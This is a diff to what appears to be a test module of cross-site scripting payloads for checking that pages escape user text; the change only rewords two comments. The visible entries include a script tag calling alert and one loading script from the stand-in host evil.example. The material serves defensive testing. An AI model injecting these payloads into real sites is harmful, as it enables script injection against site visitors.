@@ -1,9 +1,9 @@
 /**
- * Texts that become markup, script or a dangerous link wherever a page forgets to escape them.
+ * These texts become markup, script or a dangerous link wherever a page forgets to escape them.
  * Whoever runs one calls `alert`. Feed them to every field that takes words.
  */
 
-/** Elements that act by themselves once they stand in a page. */
+/** These are elements that act by themselves once they stand in a page. */
 export const elements = [
   '<script>alert(1)</script>',
   '<script src=//evil.example/x.js></script>',
